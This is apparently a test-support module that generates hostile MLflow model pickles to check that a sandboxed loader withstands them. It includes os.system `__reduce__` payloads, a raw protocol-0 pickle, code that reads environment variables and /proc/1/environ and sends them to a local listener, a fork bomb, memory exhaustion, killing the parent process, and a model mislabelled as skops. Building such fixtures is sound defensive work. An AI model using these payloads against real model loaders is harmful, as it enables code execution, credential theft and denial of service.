"""Models that attack whoever loads them. Each leaves a mark where it got through; none harms a machine that holds.

Run as `python -m tests.support.hostile_models FOLDER TARGETS`: makes a folder for each attack. TARGETS is JSON:
`outside` (a directory that no child may write), `secret_file`, `port` (of a listener that must hear nothing),
`parent` (a pid).
"""

import json
import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import cloudpickle
import mlflow.sklearn
import yaml
from mlflow.models import infer_signature
from sklearn.linear_model import LinearRegression
from tests.support.make_models import pipeline, rows

TARGETS: dict[str, Any] = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}


# The attacks use no pathlib: the scan of the opcodes knows it, and these are to be run and held.
# ruff: noqa: PTH123


def _read(path: str) -> str:
    with open(path, encoding="latin-1") as file:
        return file.read()


def _mark(what: str) -> None:
    with open(TARGETS["outside"] + "/" + what, "w") as file:
        file.write("through")


def run_program() -> None:
    os.system(f"touch {TARGETS['outside']}/run_program")


def open_socket() -> None:
    import socket

    socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=3).sendall(b"hello")


def read_environment() -> None:
    import socket

    stolen = {**os.environ, "proc": _read("/proc/1/environ")}
    if any("CARRARA" in key or "canary" in value for key, value in stolen.items()):
        _mark("read_environment")
    socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=3).sendall(json.dumps(stolen).encode())


def read_secret_file() -> None:
    raise RuntimeError(f"stolen: {_read(TARGETS['secret_file'])}")


def write_outside() -> None:
    _mark("write_outside")


def fork_many() -> None:
    import time

    for _ in range(10_000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)


def loop_forever() -> None:
    while True:
        pass


def allocate() -> None:
    kept = []
    while True:
        kept.append(bytearray(64 << 20))


def kill_parent() -> None:
    import signal

    os.kill(TARGETS["parent"], signal.SIGKILL)


def claim_success() -> None:
    os._exit(0)


ATTACKS: dict[str, Callable[[], None]] = {
    act.__name__: act
    for act in (
        run_program,
        open_socket,
        read_environment,
        read_secret_file,
        write_outside,
        fork_many,
        loop_forever,
        allocate,
        kill_parent,
        claim_success,
    )
}


class Direct:
    """`__reduce__` names the program itself, as most attacks do: a scan of the opcodes sees it."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self._command,)


class Hidden:
    """`__reduce__` calls a function that travels inside the pickle: no import gives it away."""

    def __init__(self, act: Callable[[], None]) -> None:
        self._act = act

    def __reduce__(self) -> tuple[Any, ...]:
        return self._act, ()


def make_all(root: Path) -> None:
    frame, _ = rows()
    honest = pipeline(LinearRegression()).fit(frame, frame["distance"])
    base = root / "base"
    mlflow.sklearn.save_model(
        honest,
        base,
        signature=infer_signature(frame, frame["distance"]),
        input_example=frame.head(2),
        pip_requirements=["scikit-learn"],
        serialization_format="cloudpickle",
    )
    cloudpickle.register_pickle_by_value(sys.modules[__name__])
    for name, act in ATTACKS.items():
        _write(base, root / name, cloudpickle.dumps(Hidden(act)))
    command = f"touch {TARGETS['outside']}/direct"
    _write(base, root / "direct", cloudpickle.dumps(Direct(command)))
    _write(base, root / "protocol_0", f"cposix\nsystem\n(S'{command}'\ntR.".encode())
    _disguised(base, root / "called_skops", command)


def _write(base: Path, folder: Path, pickle: bytes) -> None:
    folder.mkdir()
    for path in base.iterdir():
        (folder / path.name).write_bytes(path.read_bytes())
    (folder / "model.pkl").write_bytes(pickle)


def _disguised(base: Path, folder: Path, command: str) -> None:
    """MLmodel swears that it is skops, and trusts everything."""
    _write(base, folder, b"")
    (folder / "model.pkl").rename(folder / "model.skops")
    (folder / "model.skops").write_bytes(cloudpickle.dumps(Direct(command)))
    mlmodel = yaml.safe_load((folder / "MLmodel").read_text())
    mlmodel["flavors"]["sklearn"] |= {
        "pickled_model": "model.skops",
        "serialization_format": "skops",
        "skops_trusted_types": ["posix.system", "os.system"],
    }
    (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel))


if __name__ == "__main__":
    make_all(Path(sys.argv[1]))
